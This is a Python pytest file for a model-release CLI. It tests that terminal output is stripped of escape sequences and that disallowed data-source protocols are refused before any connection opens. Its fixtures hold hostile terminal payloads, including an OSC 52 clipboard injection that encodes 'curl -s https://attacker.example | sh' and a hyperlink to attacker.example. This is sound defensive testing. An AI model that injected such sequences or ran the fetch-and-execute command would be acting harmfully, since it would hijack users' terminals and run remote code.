"""Issue 25 item 8 on an embedded store: text from the store reaches a terminal with no escape
sequence or markup left in it (error lines included), and tables are read only over the
protocols the policy's `[residency] allowed_source_protocols` allows (refused before anything
is opened: a listener sees no connection)."""

from __future__ import annotations

import base64
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from magenta_release.cli.render import plain, safe
from tests.conftest import CAROL, Cli, Trained, write_policy

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl -s https://attacker.example | sh").decode() + "\x07"
HOSTILE = [
    OSC52,
    "\x1b]52;c;Zm9v\x1b\\",  # OSC ended by ST instead of BEL
    "\x1b[2J\x1b[31mred",  # clear screen, colour
    "\x1b]8;;https://attacker.example\x1b\\link\x1b]8;;\x1b\\",  # a hyperlink
    "\u202eevil",  # right-to-left override
    "\x9b31m",  # C1 CSI
    "a\rb",  # carriage return: overwrite the line
]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_leaves_no_escape_sequence(text: str) -> None:
    out = safe(f"before {text} after")
    assert out.startswith("before ") and out.endswith(" after")
    assert not any(c in out for c in "\x1b\x07\x9b\x9c\r\u202e"), repr(out)
    assert str(plain(text)) == safe(text)


def test_markup_is_text_and_newlines_are_kept_only_when_asked() -> None:
    assert str(plain("[/bold] [link=https://x]a[/link]")) == "[/bold] [link=https://x]a[/link]"
    assert safe("a\nb") == "a b" and safe("a\r\nb", newlines=True) == "a\nb"


def test_a_reason_with_markup_prints_as_text(released: Trained) -> None:
    """A --reason is stored as typed (control characters are refused when typed); `history`
    prints markup in it as it is, and does not crash on a closing tag."""
    reason = "[/bold] [link=x]ok[/link]"  # short: the table folds long cells
    done = released.cli("approve", "2", "--reason", reason, "--yes", by="bob")
    assert done.exit_code == 0, done.stderr
    shown = released.cli("history")
    assert shown.exit_code == 0, shown.stderr
    assert reason in shown.stdout, shown.stdout


def test_an_escape_sequence_written_into_the_store_never_reaches_the_terminal(
    released: Trained,
) -> None:
    """Someone with the database file writes a status with OSC 52 (write the clipboard) on
    the champion; the integrity alert that names it reaches stderr without the escape."""
    from mlflow import MlflowClient

    uri = f"sqlite:///{released.cli.home / 'mlflow.db'}"
    MlflowClient(tracking_uri=uri, registry_uri=uri).set_model_version_tag(
        "churn-classifier", "1", "release.status", OSC52
    )
    for args in (("status",), ("status", "--json"), ("approve", "2", "--reason", "x", "--yes")):
        result = released.cli(*args, by="bob")
        assert result.exit_code == 3, (args, result.stderr)
        assert "release.status" not in result.stderr or "version 1" in result.stderr
        for stream in (result.stdout, result.stderr):
            assert "\x1b" not in stream and "\x07" not in stream, (args, stream[-300:])


@pytest.mark.parametrize("as_json", [False, True])
def test_an_error_line_carries_no_escape_sequence(
    capsys: pytest.CaptureFixture[str], as_json: bool
) -> None:
    """A refusal names what it found, and that can be text from the store (approve's `version
    3 is <status>`): the `error:` line and the JSON error carry no escape sequence."""
    import typer

    from magenta_release.cli.base import run_action
    from magenta_release.core.errors import PolicyRefused

    def refuse() -> None:
        raise PolicyRefused(f"version 3 is {OSC52}; only pending_approval versions can be approved")

    with pytest.raises(typer.Exit) as info:
        run_action(as_json, refuse)
    assert info.value.exit_code == 1
    out = capsys.readouterr()
    assert out.err.startswith("error: version 3 is ; only pending_approval"), out.err
    for stream in (out.out, out.err):
        assert "\x1b" not in stream and "\x07" not in stream


@contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP port on 127.0.0.1 that records every connection."""
    seen: list[bytes] = []
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(4)
    sock.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                seen.append(b"(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield int(sock.getsockname()[1]), seen
    finally:
        stop.set()
        thread.join(timeout=5)
        sock.close()


@pytest.mark.parametrize("protocol", ["http", "ftp", "simplecache::http"])
def test_training_data_over_a_protocol_the_policy_refuses_is_exit_3(
    cli: Cli, protocol: str
) -> None:
    with listener() as (port, seen):
        url = f"{protocol}://127.0.0.1:{port}/features.parquet"
        result = cli("train", "--data", url, "--json", by=CAROL)
    assert result.exit_code == 3, result.stderr
    assert "allowed_source_protocols" in result.stderr
    assert not seen, "the source was opened before the policy was checked"


def test_rows_to_score_over_a_protocol_the_policy_refuses_are_exit_3(
    released: Trained, tmp_path: Path
) -> None:
    with listener() as (port, seen):
        result = released.cli(
            "predict",
            "--input",
            f"http://127.0.0.1:{port}/customers.parquet",
            "--output",
            str(tmp_path / "out.parquet"),
        )
    assert result.exit_code == 3, result.stderr
    assert not seen and not (tmp_path / "out.parquet").exists()


def test_a_policy_may_allow_a_protocol(cli: Cli, tmp_path: Path) -> None:
    """Positive control: the same refusal lifts once the policy allows the protocol (then the
    read itself fails: nothing listens)."""
    write_policy(
        cli.home,
        residency={
            "allowed_artifact_locations": ["file:"],
            "allowed_tracking_hosts": ["127.0.0.1"],
            "allowed_source_protocols": ["file", "synthetic", "memory"],
        },
    )
    result = cli("train", "--data", "memory://nowhere/features.parquet", by=CAROL)
    assert result.exit_code == 2, result.stderr  # read, and not found: not refused by policy
    assert "allowed_source_protocols" not in result.stderr
